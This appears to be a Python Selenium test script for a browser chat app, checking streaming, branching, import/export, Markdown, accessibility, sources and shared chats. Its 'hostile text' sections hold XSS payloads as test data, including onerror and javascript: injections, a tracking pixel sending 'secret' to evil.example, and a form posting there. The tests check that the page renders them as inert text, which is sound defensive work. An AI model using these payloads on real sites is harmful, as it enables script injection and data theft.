"""page_drive.py URL [SHOTS] - a person at the chat page, in a real Chromium (python3-selenium).

Prints TAP lines without numbers of its own: "ok NAME" or "not ok NAME"; the script that runs it
counts. With SHOTS, a folder, also takes the pictures of docs/.
"""
import json, os, sys, tempfile, time

from selenium import webdriver
from selenium.webdriver.chrome.options import Options
from selenium.webdriver.chrome.service import Service
from selenium.webdriver.common.by import By
from selenium.webdriver.common.keys import Keys

url, shots = sys.argv[1], sys.argv[2] if len(sys.argv) > 2 else None
profile = tempfile.TemporaryDirectory()


def browser(dark=False, size=(1200, 800)):
    o = Options()
    o.binary_location = os.environ.get("CHROMIUM", "/usr/bin/chromium")
    for a in ("--headless=new", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--hide-scrollbars",
              "--no-proxy-server", f"--user-data-dir={profile.name}", "--window-size=%d,%d" % size):
        o.add_argument(a)
    o.set_capability("goog:loggingPrefs", {"browser": "ALL", "performance": "ALL"})
    d = webdriver.Chrome(service=Service("/usr/bin/chromedriver"), options=o)
    d.execute_cdp_cmd("Emulation.setDeviceMetricsOverride", {"width": size[0], "height": size[1], "deviceScaleFactor": 1, "mobile": size[0] < 600})
    d.execute_cdp_cmd("Emulation.setEmulatedMedia", {"features": [{"name": "prefers-color-scheme", "value": "dark" if dark else "light"}]})
    return d


def until(what, seconds=60):
    end = time.time() + seconds
    while time.time() < end:
        try:
            if what():
                return True
        except Exception:
            pass
        time.sleep(0.05)
    return False


failures = 0


def say(ok, name, detail=""):
    global failures
    failures += not ok
    print(("ok " if ok else "not ok ") + name, flush=True)
    if not ok and detail:
        print("# " + str(detail)[:1000].replace("\n", "\n# "), flush=True)


d = browser()
js = d.execute_script
el = lambda i: d.find_element(By.ID, i)
all_of = lambda css: d.find_elements(By.CSS_SELECTOR, css)
articles = lambda: all_of("article")
is_idle = lambda: el("stop").get_attribute("hidden") is not None
count = lambda css: js("return document.querySelectorAll(arguments[0]).length", css)
text_of = lambda css: js("return [...document.querySelectorAll(arguments[0])].map(e => e.textContent)", css)


def ready():
    return until(lambda: js("return document.getElementById('model').options.length") == 1)


def type_and_send(text):
    el("input").send_keys(text)
    el("input").send_keys(Keys.ENTER)


def settings(**values):
    js("document.getElementById('open-settings').click()")
    time.sleep(0.3)
    for name, value in values.items():
        js("document.getElementById('set-' + arguments[0]).value = arguments[1]", name, str(value))
    d.find_element(By.CSS_SELECTOR, "#settings .primary").click()
    until(lambda: not js("return document.getElementById('settings').open"), 5)
    time.sleep(0.3)


# A file of one chat whose answer is `text`, imported as a person would.
def import_chat(title, question, text, figures=None):
    nodes = {"q": {"id": "q", "parent": None, "role": "user", "content": question},
             "a": {"id": "a", "parent": "q", "role": "assistant", "content": text, "finish": "stop", "figures": figures}}
    with tempfile.NamedTemporaryFile("w", suffix=".json") as f:
        json.dump({"format": "cria-chats", "version": 1, "chats": [{"title": title, "leaf": "a", "nodes": nodes}]}, f)
        f.flush()
        before = count("#chats li")
        el("import-file").send_keys(f.name)
        until(lambda: count("#chats li") == before + 1, 10)
    js("[...document.querySelectorAll('#chats button')].find(b => b.firstChild.textContent === arguments[0]).click()", title)


# ---- it opens ----
d.get(url)
say(ready(), "the page opens and names the model")
paint = js("return performance.getEntriesByType('paint').map(e => e.startTime)")
say(bool(paint) and max(paint) < 1000, "first paint soon, on a busy machine too", paint)
print("# first paint after %.0f ms" % max(paint or [0]))
say(until(lambda: el("hints").is_displayed(), 10) and el("input") == d.switch_to.active_element, "it begins with hints and the message field")
hosts = {e["request"]["url"] for m in d.get_log("performance") for e in [json.loads(m["message"])["message"].get("params", {})] if "request" in e and "url" in e["request"]}
say(all(h.startswith((url, "data:", "chrome:")) for h in hosts) and len(hosts) >= 11, "it asks this server alone", hosts)

# ---- send, stream, stop ----
settings(temperature=0, max_tokens=24, system="Answer the question correctly.")
type_and_send("What is the capital of France?")
say(until(lambda: len(articles()) == 2 and is_idle()), "an answer comes")
say("Paris" in articles()[1].text and "tokens" in articles()[1].text, "and says how fast", articles()[1].text)
say(js("return document.getElementById('announce').textContent").startswith("Answer: "), "a screen reader hears it whole")
settings(max_tokens=900)
type_and_send("Write a long story about a dragon.")
seen = set()
until(lambda: seen.add(len(articles()[3].text)) or len(seen) > 3)
say(len(seen) > 3 and not is_idle(), "text streams", seen)
el("input").send_keys(Keys.ESCAPE)
say(until(is_idle, 5) and "You stopped" in articles()[3].text, "Escape stops it", articles()[3].text)
until(lambda: '"running":0' in js("return fetch('health').then(r => r.text())"), 5)
say('"running":0' in js("return fetch('health').then(r => r.text())"), "in the server too")

# ---- reload ----
before = text_of("article .body")
d.refresh()
say(ready() and text_of("article .body") == before, "a reload keeps the chat")
say(js("return JSON.parse(localStorage['cria.settings']).key") == "", "no key is kept unasked")

# ---- edit, branch, regenerate ----
settings(temperature=0, max_tokens=16)
js("document.querySelector('article [data-act=edit]').click()")
d.switch_to.active_element.send_keys(Keys.CONTROL, "a")
d.switch_to.active_element.send_keys("What is the capital of Italy?")
d.find_element(By.CSS_SELECTOR, "[data-act=save-edit]").click()
say(until(lambda: len(articles()) == 2 and is_idle()) and "Rome" in articles()[1].text and "2 of 2" in articles()[0].text, "an edit makes a branch", [a.text for a in articles()])
d.find_element(By.CSS_SELECTOR, "article [data-act=back]").click()
say(text_of("article .body") == before, "and the first one is still there", text_of("article .body"))
d.find_element(By.CSS_SELECTOR, "article [data-act=next]").click()
js("document.querySelector('article [data-act=again]').click()")
say(until(lambda: "2 of 2" in articles()[1].text and is_idle()), "regenerate adds an answer")

# ---- the list ----
title = el("title")
title.send_keys(Keys.CONTROL, "a")
title.send_keys("Capitals", Keys.ENTER)
say(until(lambda: text_of("#chats button") == ["Capitals"], 5), "rename", text_of("#chats button"))
import_chat("Weather", "Why does it rain?", "Because of *zephyrs*.")
say(count("#chats li") == 2 and count("article em") == 1, "import")
el("search").send_keys("zephyr")
say(text_of("#chats mark") == ["zephyr"] and count("#chats li") == 1, "search looks into the text")
el("search").clear()
el("search").send_keys("x", Keys.BACKSPACE)
js("document.getElementById('delete').click()")
say(until(lambda: count("#chats li") == 1, 5) and el("toast").is_displayed(), "delete")
js("document.querySelector('#toast button').click()")
say(until(lambda: count("#chats li") == 2, 5) and count("article em") == 1, "and undo")
js("""window.saved = null; URL.createObjectURL = b => { b.text().then(t => window.saved = t); return '#'; };
      document.getElementById('export-all').click()""")
until(lambda: js("return window.saved"), 5)
saved = json.loads(js("return window.saved"))
say(saved["format"] == "cria-chats" and {c["title"] for c in saved["chats"]} == {"Capitals", "Weather"}, "export")
for bad in ("{", "[]", '{"format":"cria-chats","version":1,"chats":[{"nodes":{"a":{"id":"a","parent":"b","role":"user","content":"x"}}}]}',
            '{"format":"cria-chats","version":1,"chats":[{"nodes":{"a":{"id":"a","parent":null,"role":"system","content":"x"}}}]}'):
    with tempfile.NamedTemporaryFile("w", suffix=".json") as f:
        f.write(bad)
        f.flush()
        el("import-file").send_keys(f.name)
        say(until(lambda: "Nothing was imported" in el("toast").text, 5) and count("#chats li") == 2, f"refuses to import {bad[:50]}")
    js("document.querySelector('#toast span').textContent = ''")

# ---- hostile text ----
HOSTILE = r"""<img src=x onerror="window.hacked=1"> <script>window.hacked=1</script> <svg onload=window.hacked=1>
[a](javascript:window.hacked=1) [b](JaVaScRiPt:window.hacked=1) [c](data:text/html,<script>window.hacked=1</script>)
[d](java&#10;script:window.hacked=1) [e](vbscript:x) <javascript:window.hacked=1> [f](/health) [g](//evil.example/x)
![pixel](https://evil.example/track.png?q=secret) [ok](https://example.org/a "onmouseover=x") <a href="javascript:x">x</a>
[h](https://example.org/"onclick="window.hacked=1) `</code><script>window.hacked=1</script>`

| <b>a</b> | [x](javascript:1) |
| --- | --- |
| <iframe src=javascript:1> | <style>*{display:none}</style> |

```html"onload="x
</code></pre><script>window.hacked=1</script>
```
<form id=composer action=https://evil.example><input id=input name=attributes></form>
$$<img src=x onerror=window.hacked=1>$$
"""
d.get_log("performance")
import_chat("Hostile <b>title</b>", "<img src=x onerror='window.hacked=1'>", HOSTILE)
time.sleep(0.3)
links = js("return [...document.querySelectorAll('article a')].map(a => a.href)")
say(js("return window.hacked") is None, "hostile text runs nothing")
say(count("article :is(img,script,svg,iframe,style,form,object,embed,input)") == 0, "and makes no element of its own")
say(len(links) == 4 and all(l.startswith("https://") for l in links), "links that are none stay text", links)
names = js("return [...new Set([...document.querySelectorAll('article .body, article .body *')].flatMap(e => e.getAttributeNames()))]")
say(set(names) <= {"class", "href", "target", "rel", "title", "type", "data-act", "tabindex", "start"}, "attributes are ours", names)
say(not any("evil.example" in m["message"] for m in d.get_log("performance")), "nothing is fetched for it")
slow = js("""const { renderMarkdown } = await import('./page/markdown.js'); const out = {};
    for (const s of ['*a ', '[', '![a](', '`a``', '> ', '- ', '_a*', '$a', '| a ', '\\\\', '**', '<http://a', '~~a', ' - a\\n', '((', '&#'])
      { const el = document.createElement('div'); const t = performance.now(); renderMarkdown(el, s.repeat(40000 / s.length)); out[s] = Math.round(performance.now() - t); }
    return out""")
say(max(slow.values()) < 1500, "no text of 40 KB hangs the page", slow)
print("# slowest: %s" % sorted(slow.items(), key=lambda x: -x[1])[:3])

# ---- Markdown ----
MD = open(os.path.join(os.path.dirname(__file__), "page_sample.md")).read()
FIGURES = {"tokens": 312, "prompt": 41, "cached": 24, "perSecond": 148.2, "firstS": 0.09}
import_chat("A pinhole camera", "How do I build a pinhole camera, and how long must I expose?", MD, FIGURES)
want = {"h2": 2, "ol > li": 3, "ul > li": 2, "table": 1, "tbody tr": 3, "td.right": 3, "figure pre": 1, ".hl-word": 3, ".hl-comment": 1, "strong": 3, "code.math": 2, "blockquote": 1, "a": 1, "ol ul": 1}
got = {k: count("article .md " + k) for k in want}
say(all(got[k] >= n if k.startswith(".hl") or k == "strong" else got[k] == n for k, n in want.items()), "Markdown becomes what it means", got)
js("""window.copied = null; Object.defineProperty(navigator, 'clipboard', {value: {writeText: t => (window.copied = t, Promise.resolve())}});
      document.querySelector('figure button').click()""")
say(until(lambda: js("return window.copied") == js("return document.querySelector('figure pre').textContent"), 5), "code is copied")
increments = js("""const { renderMarkdown } = await import('./page/markdown.js'); const a = document.createElement('div'), b = document.createElement('div');
    for (let i = 1; i <= arguments[0].length; i++) renderMarkdown(a, arguments[0].slice(0, i)); renderMarkdown(b, arguments[0]); return a.innerHTML === b.innerHTML""", MD)
say(increments, "letter by letter it comes to the same")

# ---- looks ----
def shot(name, browser):
    if shots:
        browser.save_screenshot(os.path.join(shots, name + ".png"))


js("document.getElementById('toast').hidden = true; document.getElementById('scroll').scrollTop = 0")
# the pictures show chats that a reader may see
js("[...document.querySelectorAll('#chats li')].filter(l => l.textContent.includes('Hostile')).forEach(l => l.querySelector('button').click())")
js("document.getElementById('delete').click()")
time.sleep(0.2)
js("[...document.querySelectorAll('#chats button')].find(b => b.textContent === 'A pinhole camera').click()")
js("document.getElementById('toast').hidden = true; document.getElementById('scroll').scrollTop = 0")
shot("page-light", d)
light = js("return getComputedStyle(document.body).backgroundColor")
d.execute_cdp_cmd("Emulation.setEmulatedMedia", {"features": [{"name": "prefers-color-scheme", "value": "dark"}]})
dark = js("return getComputedStyle(document.body).backgroundColor")
js("document.getElementById('scroll').scrollTop = 1e6")
shot("page-dark", d)
shown = lambda c: sum(int(x) for x in c[4:-1].split(","))
say(shown(light) > 700 and shown(dark) < 120, "light and dark", (light, dark))
settings(theme="light")
say(js("return getComputedStyle(document.body).backgroundColor") == light, "or as one chooses")
settings(theme="")
if shots:
    js("document.getElementById('new-chat').click()"); shot("x-hints-dark", d)
    js("document.getElementById('open-settings').click()"); shot("x-settings-dark", d)
    js("document.getElementById('settings').close('cancel')")
d.execute_cdp_cmd("Emulation.setEmulatedMedia", {"features": [{"name": "prefers-color-scheme", "value": "light"}]})
if shots:
    shot("x-hints-light", d)
    js("[...document.querySelectorAll('#chats button')].find(b => b.textContent === 'A pinhole camera').click()")

# ---- phone ----
d.execute_cdp_cmd("Emulation.setDeviceMetricsOverride", {"width": 360, "height": 720, "deviceScaleFactor": 2, "mobile": True})
time.sleep(0.4)
wide = js("return [document.documentElement.scrollWidth, document.getElementById('scroll').scrollWidth - document.getElementById('scroll').clientWidth]")
say(wide[0] <= 360 and wide[1] <= 0, "a phone of 360 px scrolls one way alone", wide)
js("document.getElementById('scroll').scrollTop = 0")
shot("page-phone", d)
js("document.getElementById('open-sidebar').click()")
time.sleep(0.4)
box = js("const r = document.getElementById('sidebar').getBoundingClientRect(); return [r.left, r.right]")
say(box[0] == 0 and box[1] <= 320, "the list is a drawer", box)
shot("x-phone-list", d)
d.switch_to.active_element.send_keys(Keys.ESCAPE)
say(until(lambda: not el("sidebar").is_displayed(), 3), "that Escape closes")
d.execute_cdp_cmd("Emulation.setDeviceMetricsOverride", {"width": 1200, "height": 800, "deviceScaleFactor": 1, "mobile": False})

say(el("input").get_attribute("value") == "", "the message field is as empty as it was left")

# ---- keyboard alone ----
d.get(url)
ready()
names, seen_input = [], False
for _ in range(60):
    a = d.switch_to.active_element
    names.append(js("const e = arguments[0]; return (e.getAttribute('aria-label') || e.textContent || e.title || '').trim().slice(0, 40)", a))
    a.send_keys(Keys.TAB)
say("New chat" in names and "Settings" in names and "Search chats" in names and "Message" in names, "Tab reaches everything", names)
unnamed = js("return [...document.querySelectorAll('button, input, select, textarea')].filter(e => !(e.getAttribute('aria-label') || e.textContent.trim() || e.labels?.length) && e.offsetParent).map(e => e.outerHTML)")
say(unnamed == [], "and everything has a name", unnamed)
settings(max_tokens=3)
js("document.getElementById('input').focus()")
d.switch_to.active_element.send_keys("Hello", Keys.SHIFT, Keys.ENTER)
d.switch_to.active_element.send_keys("there", Keys.ENTER)
say(until(lambda: len(articles()) == 2 and is_idle()) and text_of("article.user .body") == ["Hello\nthere"], "a chat without a mouse", text_of("article.user .body"))

# ---- sources ----
if os.environ.get("INDEX"):
    d.get(url)
    ready()
    settings(temperature=0, max_tokens=60, system="")
    say(until(lambda: el("use-sources").is_displayed(), 5) and el("use-sources").get_attribute("aria-pressed") == "true", "a server with an index offers sources")
    type_and_send("When was the old bridge over the Tamar built, and by whom?")
    say(until(lambda: is_idle() and count("article .source button") >= 1), "a reference becomes a superscript", [a.text for a in articles()])
    say(text_of(".sources button") == ["The old bridge"] and "[1]" not in text_of("article .md")[-1], "the sources that are used are listed", text_of("article .md"))
    js("document.querySelector('article .source button').click()")
    say(until(lambda: "five arches" in el("source-text").text, 5) and "1874" in text_of("#source-text mark")[0] and "bridge.md" in el("source-path").text, "it opens the passage, the quote marked", el("source").text)
    js("document.getElementById('source-path').textContent = '/home/me/town/bridge.md'")
    shot("page-sources", d)
    d.switch_to.active_element.send_keys(Keys.ESCAPE)
    say(until(lambda: not js("return document.getElementById('source').open"), 3), "Escape closes it")
    d.refresh()
    say(ready() and until(lambda: count("article .source button") >= 1, 5), "a reload keeps the references")
    js("document.getElementById('use-sources').click()")
    js("document.getElementById('new-chat').click()")
    type_and_send("When was the old bridge over the Tamar built?")
    say(until(lambda: len(articles()) == 2 and is_idle()) and count("article .source button") == 0, "and without the switch there are none")
    js("document.getElementById('use-sources').click()")
    import_chat("Evil source", "x", "Text [1] `[1]` [2].", None)
    evil = js("""const t = await import('./page/tree.js'), s = await import('./page/sources.js'), m = await import('./page/markdown.js');
        const raw = { nodes: { a: { id: 'a', parent: null, role: 'assistant', content: 'Text [1] `[1]` [2].', sources: [{ number: 1, passage: 5, title: '<img src=x onerror=window.hacked=1>', path: 7, quote: null }, { number: 'x' }] } } };
        const node = Object.values(t.cleanChat(raw, 0).nodes)[0], el = document.createElement('div'); m.renderMarkdown(el, node.content); s.setMarks(el, node);
        return [el.querySelectorAll('sup').length, el.querySelectorAll('code sup, img').length, el.textContent]""")
    say(evil[0] == 1 and evil[1] == 0 and "[2]" in evil[2] and js("return window.hacked") is None, "hostile sources from a file are text", evil)

    # documents: chosen, and dropped
    say(until(lambda: el("add-document").is_displayed(), 5), "a server whose index may be written offers to add documents")
    with tempfile.NamedTemporaryFile("w", suffix=".md", prefix="ferry") as f:
        f.write("# The ferry\n\nThe ferry over the Tamar sails every hour until 1962.\n")
        f.flush()
        js("document.getElementById('document-file').hidden = false")
        el("document-file").send_keys(f.name)
        say(until(lambda: "is a source now" in el("toast").text, 20), "a chosen file becomes a source", el("toast").text)
        js("document.getElementById('document-file').hidden = true")
    drop = lambda name, text: js("""const t = new DataTransfer(); t.items.add(new File([arguments[1]], arguments[0]));
        for (const type of ['dragover', 'drop']) document.getElementById('messages').dispatchEvent(new DragEvent(type, { dataTransfer: t, bubbles: true, cancelable: true }));""", name, text)
    drop("weir.md", "# The weir\n\nThe weir at Gunnislake was raised in 1801.\n")
    say(until(lambda: "weir.md is a source now" in el("toast").text, 20), "a dropped file does, too", el("toast").text)
    drop("none.bin", "\0\0\0\0")
    say(until(lambda: "none.bin" in el("toast").text and "nothing here reads it" in el("toast").text, 20), "one that cannot be read is refused in words", el("toast").text)
    js("document.getElementById('new-chat').click()")
    type_and_send("When was the weir at Gunnislake raised?")
    say(until(lambda: is_idle() and "The weir" in text_of(".sources button")), "and the next answer cites it", [a.text for a in articles()])

# ---- chats that the server keeps ----
if os.environ.get("SHARED"):
    shared = os.environ["SHARED"]
    d.get(shared)
    ready()
    settings(temperature=0, max_tokens=12, system="Answer the question correctly.")
    fetched = lambda path: js("const r = await fetch(arguments[0]); return await r.json()", path)
    titles = lambda: sorted(c["title"] for c in fetched("chats")["data"])
    said = lambda: [n["content"] for n in fetched("chats/" + fetched("chats")["data"][0]["id"])["nodes"].values()]
    type_and_send("What is the capital of France?")
    say(until(lambda: len(articles()) == 2 and is_idle()) and until(lambda: len(said()) == 2 and any("Paris" in t for t in said())), "the server keeps a chat", said())
    before = text_of("article .body")
    d.refresh()
    say(ready() and until(lambda: text_of("article .body") == before, 10), "a reload keeps it")
    first = d.current_window_handle
    address = d.current_url
    d.switch_to.new_window("tab")
    d.get(address)
    say(ready() and until(lambda: text_of("article .body") == before, 10), "another tab has it")
    type_and_send("And of Italy?")
    say(until(lambda: len(articles()) == 4 and is_idle()) and until(lambda: len(said()) == 4, 10), "and goes on with it")
    d.switch_to.window(first)
    type_and_send("And of Spain?") if len(articles()) == 2 else None
    say(until(is_idle) and until(lambda: len(said()) >= 4 and any("Italy" in t for t in said()), 10), "what one tab wrote, another does not overwrite", said())
    js("document.dispatchEvent(new Event('visibilitychange'))")
    js("document.getElementById('new-chat').click()")
    type_and_send("Say something of zanzibar.")
    until(lambda: len(articles()) == 2 and is_idle())
    lone = js("""const a = await import('./page/api.js'); const id = 'ab'.repeat(12);
        await a.writeChat('', { id, title: 'x\\ud83d', updated: 1, nodes: {} }, undefined); const t = (await a.readChat('', id)).chat.title; await a.deleteChat('', id); return t""")
    say(lone == "x�", "half a character does not stop it", lone)
    d.refresh()
    ready()
    el("search").send_keys("zanzibar")
    say(until(lambda: count("#chats li") == 1, 5), "the search looks into chats that were not opened", text_of("#chats button"))
    el("search").clear()
    el("search").send_keys("x", Keys.BACKSPACE)
    say(until(lambda: count("#chats li") == 2, 5), "and gives all back")
    js("document.getElementById('delete').hidden || document.querySelector('#chats button').click()")
    until(lambda: len(articles()) == 2, 5)
    js("document.getElementById('delete').click()")
    say(until(lambda: len(titles()) == 1, 5), "delete", titles())
    js("document.querySelector('#toast button').click()")
    say(until(lambda: len(titles()) == 2, 5), "and undo", titles())
    js("document.getElementById('open-settings').click()")
    js("document.getElementById('set-browser').checked = true")
    d.find_element(By.CSS_SELECTOR, "#settings .primary").click()
    say(until(lambda: count("#chats li") == 0, 5), "or the browser alone keeps chats", text_of("#chats button"))
    import_chat("Only here", "x", "y")
    time.sleep(0.5)
    say(len(titles()) == 2, "of which the server hears nothing")
    js("document.getElementById('open-settings').click()")
    js("document.getElementById('set-browser').checked = false")
    d.find_element(By.CSS_SELECTOR, "#settings .primary").click()
    say(until(lambda: el("move-chats").is_displayed() and "1 chat" in el("move-chats").text, 5) and count("#chats li") == 2, "until they are moved")
    js("document.getElementById('move-chats').click()")
    say(until(lambda: "Only here" in titles() and not el("move-chats").is_displayed(), 5) and count("#chats li") == 3, "none is lost", titles())
    merged = js("""const t = await import('./page/tree.js'), a = t.newChat(); t.addNode(a, null, 'user', 'one');
        const b = structuredClone(a); t.addNode(a, a.leaf, 'assistant', 'from a'); t.addNode(b, b.leaf, 'assistant', 'from b'); t.mergeChat(a, t.soundChat(b, b.id));
        return [Object.values(a.nodes).map(n => n.content), t.siblings(a, a.nodes[a.leaf]).length, t.soundChat(a, a.id).leaf === a.leaf]""")
    js("document.querySelector('#chats button').click()")
    until(lambda: len(articles()) >= 2, 5)
    js("document.getElementById('menu').showPopover(); document.getElementById('share').click()")
    say(until(lambda: "link" in el("toast").text or "shared.html" in el("toast").text, 5) and text_of("#toast button") == ["Revoke"], "a chat is shared from its menu", el("toast").text)
    link = shared + js("const r = await fetch('chats/' + arguments[0] + '/share'); return (await r.json()).path", js("return location.hash.slice(1)"))
    shown, title, back = text_of("article .body"), js("return document.getElementById('title').value"), d.current_url
    d.get(link)
    say(until(lambda: text_of("article .body") == shown, 5) and el("title").text == title and count("button, textarea, input") == 0, "the link shows it, with nothing to change it by", text_of("article .body"))
    hostile = js("""const real = window.fetch; window.fetch = async () => new Response(JSON.stringify({ title: '<img src=x onerror=window.hacked=1>', messages: [
        { role: 'user', content: '<script>window.hacked=1</scr' + 'ipt>' }, { role: 'assistant', content: '[x](javascript:window.hacked=1) <img src=x onerror=window.hacked=1>', sources: [{ number: 1, title: '<b>x' }] }] }));
        await import('./shared.js?again'); await new Promise(r => setTimeout(r, 500)); window.fetch = real;
        return [document.querySelectorAll('article').length, document.querySelectorAll('img, script:not([src]), a[href^=javascript], b').length, window.hacked === undefined]""")
    say(hostile == [2, 0, True], "what strangers wrote in it is text", hostile)
    d.get(back)
    ready()
    until(lambda: len(articles()) >= 2, 5)
    js("document.getElementById('menu').showPopover(); document.getElementById('unshare').click()")
    say(until(lambda: "nothing any more" in el("toast").text, 5), "it is revoked there", el("toast").text)
    d.get(link)
    say(until(lambda: "shared no more" in el("note").text, 5) and count("article") == 0, "and then shows nothing")
    say(merged == [["one", "from a", "from b"], 2, True], "two answers to one question become branches", merged)

# ---- faults in words ----
d.get(url)
ready()
settings(temperature=0, max_tokens=100000000)
type_and_send("Hello again")
say(until(lambda: len(articles()) == 2 and is_idle()) , "a wrong setting is answered", [a.text for a in articles()])
settings(max_tokens=3)
js("const i = document.getElementById('input'); i.value = 'word '.repeat(9000); i.dispatchEvent(new Event('input')); document.getElementById('send').click()")
say(until(lambda: count(".fault") >= 1 and is_idle()) and "longer than the model can read" in text_of(".fault")[-1], "a chat over the context is told in words", text_of(".fault"))
problems = [m for m in d.get_log("browser") if m["level"] == "SEVERE" and "400" not in m["message"] and "/shared/" not in m["message"]]
say(problems == [], "the console is silent", problems)
d.quit()
sys.exit(failures > 0)
